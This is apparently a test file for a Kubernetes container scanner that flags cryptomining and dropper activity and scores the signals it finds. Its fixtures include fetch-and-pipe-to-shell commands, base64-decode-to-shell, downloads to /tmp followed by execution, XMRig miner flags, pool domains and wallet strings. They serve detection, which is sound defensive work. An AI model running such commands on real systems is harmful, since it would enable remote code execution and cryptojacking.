import t from 'tap'
import { containerTexts } from '../../src/detect/container-text.ts'
import { expandVariables } from '../../src/detect/expansion.ts'
import { compileSignalScanner, type Signal, safeQuote, scoreSignals } from '../../src/detect/signals.ts'
import { defaultSignalData } from '../helpers/signal-data.ts'

const data = await defaultSignalData()
const scan = compileSignalScanner(data)

function signalsIn(text: string): { kind: string; quote: string }[] {
  const found: Signal[] = []
  scan([{ field: 'args[0]', text }], found)
  return found.map(({ kind, quote }) => ({ kind, quote }))
}

const cases: [string, { kind: string; quote: string }[]][] = [
  [
    'stratum+tcp://pool.example.net:3333',
    [
      { kind: 'stratum-url', quote: 'stratum+tcp://pool.example.net:3333' },
      { kind: 'mining-port', quote: ':3333' },
    ],
  ],
  ['-o stratum+ssl://wallet:hunter2@pool.example.net:443', [{ kind: 'stratum-url', quote: 'stratum+ssl://***@pool.example.net:443' }]],
  [
    'curl -s http://203.0.113.5/d.sh | bash',
    [
      { kind: 'raw-ip-download', quote: 'http://203.0.113.5' },
      { kind: 'download-to-shell', quote: '| bash' },
    ],
  ],
  ['curl -s http://10.0.0.5/d.sh | bash', [{ kind: 'download-to-shell', quote: '| bash' }]],
  ['echo aGk= | base64 -d | sh', [{ kind: 'decode-to-shell', quote: '| sh' }]],
  ['wget -O /tmp/.x https://example.com/x', [{ kind: 'download-to-tmp', quote: '-O /tmp/.x' }]],
  ['chmod +x /dev/shm/k && /dev/shm/k', [{ kind: 'exec-from-tmp', quote: 'chmod +x /dev/shm/k' }]],
  ['chmod 755 /usr/local/bin/tool', []],
  ['--donate-level=1', [{ kind: 'miner-flag', quote: '--donate-level' }]],
  ['--randomx-no-numa', [{ kind: 'miner-flag', quote: '--randomx-no-numa' }]],
  ['-a rx/0', [{ kind: 'miner-flag', quote: '-a rx/0' }]],
  ['-a bcrypt', []],
  ['/tmp/xmrig -c config.json', [{ kind: 'miner-binary', quote: 'xmrig' }]],
  ['./XMRig', [{ kind: 'miner-binary', quote: 'XMRig' }]],
  ['libxmrig-helper', []],
  ['config.xmrig', []],
  [
    'xmr-eu1.nanopool.org:14444',
    [
      { kind: 'pool-domain', quote: 'xmr-eu1.nanopool.org' },
      { kind: 'mining-port', quote: ':14444' },
    ],
  ],
  ['notnanopool.org', []],
  ['0x52908400098527886E0F7030069857D2E4169EE7', [{ kind: 'eth-wallet', quote: '0x52908400098527886E0F7030069857D2E4169EE7' }]],
  ['1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa', [{ kind: 'wallet', quote: '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa' }]],
  ['1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb', []],
  ['bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4', [{ kind: 'wallet', quote: 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4' }]],
  ['bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5', []],
  [`4${'A'.repeat(94)}`, [{ kind: 'wallet', quote: safeQuote(`4${'A'.repeat(94)}`) }]],
  [`4L${'z'.repeat(93)}`, []],
  ['listen :8080', []],
]

for (const [text, expected] of cases) {
  t.test(`signals in ${JSON.stringify(text.slice(0, 60))}`, async (t) => {
    t.same(signalsIn(text), expected)
  })
}

t.test('a base64 script is decoded and read, with the field saying so', async (t) => {
  const script = Buffer.from('wget -O /tmp/x http://203.0.113.9/x; /tmp/x -o pool.supportxmr.com:443').toString('base64')
  const found: Signal[] = []
  scan([{ field: 'command[2]', text: `echo ${script} | base64 -d | sh` }], found)
  t.same(
    found.map(({ kind, field }) => `${field} ${kind}`),
    [
      'command[2] (base64-decoded) raw-ip-download',
      'command[2] decode-to-shell',
      'command[2] (base64-decoded) download-to-tmp',
      'command[2] (base64-decoded) pool-domain',
    ],
  )
})

t.test('binary noise in base64 is not read as a script', async (t) => {
  const noise = Buffer.from(Array.from({ length: 60 }, (_, index) => (index * 37) % 256)).toString('base64')
  t.same(signalsIn(`echo ${noise} | base64 -d > /data/blob`), [])
})

t.test('each signal is attributed to the text it was found in', async (t) => {
  const found: Signal[] = []
  scan(
    [
      { field: 'args[0]', text: 'plain' },
      { field: 'args[1]', text: 'also plain' },
      { field: 'env[3].value', text: 'stratum+tcp://x.example:1' },
    ],
    found,
  )
  t.same(
    found.map((signal) => signal.field),
    ['env[3].value'],
  )
})

t.test('quotes are shortened: a whole env value is never repeated', async (t) => {
  const quote = safeQuote(`stratum+tcp://${'a'.repeat(200)}`)
  t.equal(quote.length, 80)
  t.ok(quote.endsWith('…'))
})

t.test('scoring counts each kind once, two distinct flags twice, and company-needing kinds only in company', async (t) => {
  const signal = (kind: Signal['kind'], quote: string): Signal => ({ kind, field: 'args[0]', quote })
  t.same(scoreSignals([signal('mining-port', ':3333'), signal('eth-wallet', '0xabc')], data), { score: 0, action: undefined, signals: [] })
  t.match(
    scoreSignals(
      [signal('miner-flag', '--donate-level'), signal('miner-flag', '--donate-level'), signal('miner-flag', '-a rx/0'), signal('miner-flag', '--nicehash')],
      data,
    ),
    {
      score: 14,
      action: 'deny',
    },
  )
  t.match(scoreSignals([signal('wallet', '1A1z'), signal('mining-port', ':3333')], data), { score: 10, action: 'deny' })
  t.match(scoreSignals([signal('miner-flag', '--donate-level')], data), { score: 7, action: 'warn' })
  t.match(scoreSignals([signal('download-to-tmp', '-o /tmp/x'), signal('exec-from-tmp', 'chmod +x /tmp/x')], data), { score: 6, action: undefined })
})

t.test('$(VAR) expands as the kubelet does', async (t) => {
  const variables = new Map([
    ['HOST', 'pool.example'],
    ['PORT', '3333'],
  ])
  t.equal(expandVariables('$(HOST):$(PORT)', variables), 'pool.example:3333')
  t.equal(expandVariables('$$(HOST) $(MISSING)', variables), '$(HOST) $(MISSING)')
  t.equal(expandVariables('no variables', variables), 'no variables')
})

t.test('container texts cover env, command, args, hooks and probes, with kubelet expansion', async (t) => {
  const texts = containerTexts({
    name: 'c',
    env: [
      { name: 'A', value: 'stratum+tcp' },
      { name: 'FROM_SECRET', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } },
      { name: 'B', value: '$(A)://pool.example' },
      { name: 'C', value: 'after' },
    ],
    command: ['/bin/run', '-a', 'rx/0'],
    args: ['--url=$(B):3333'],
    lifecycle: { postStart: { exec: { command: ['hook'] } } },
    readinessProbe: { exec: { command: ['probe'] } },
  })
  t.same(
    texts.map(({ field, text }) => `${field}=${text}`),
    [
      'env[0].value=stratum+tcp',
      'env[2].value=stratum+tcp://pool.example',
      'env[3].value=after',
      'command[0]=/bin/run',
      'command[1]=-a rx/0',
      'command[2]=rx/0',
      'args[0]=--url=stratum+tcp://pool.example:3333',
      'lifecycle.postStart.exec.command[0]=hook',
      'readinessProbe.exec.command[0]=probe',
    ],
  )
  t.same(containerTexts({ name: 'empty' }), [])
})

t.test('downloads from loopback, private and link-local addresses are not droppers', async (t) => {
  for (const ip of ['127.0.0.1', '0.0.0.0', '10.1.2.3', '172.16.0.1', '172.31.255.1', '192.168.1.1', '169.254.169.254'])
    t.same(signalsIn(`curl -o /data/x http://${ip}/x`), [], ip)
  for (const ip of ['172.32.0.1', '8.8.8.8', '192.169.0.1'])
    t.same(signalsIn(`curl -o /data/x http://${ip}/x`), [{ kind: 'raw-ip-download', quote: `http://${ip}` }], ip)
})

t.test('a pool domain needs a word boundary before it', async (t) => {
  t.same(signalsIn('my-nanopool.org'), [])
  t.same(signalsIn('see https://nanopool.org'), [{ kind: 'pool-domain', quote: 'nanopool.org' }])
})

t.test('host ports count as mining ports too, and expansion reaches args when env needs none', async (t) => {
  const texts = containerTexts({
    name: 'c',
    env: [
      { name: 'S', valueFrom: { fieldRef: { fieldPath: 'metadata.name' } } },
      { name: 'P', value: '3333' },
    ],
    args: ['--port=$(P)'],
  })
  t.same(
    texts.map(({ text }) => text),
    ['3333', '--port=3333'],
  )
  const { containerPorts } = await import('../../src/detect/container-text.ts')
  t.same(containerPorts({ name: 'c', ports: [{ containerPort: 8080, hostPort: 3333 }] }), [
    { field: 'ports[0].containerPort', port: 8080 },
    { field: 'ports[0].hostPort', port: 3333 },
  ])
})
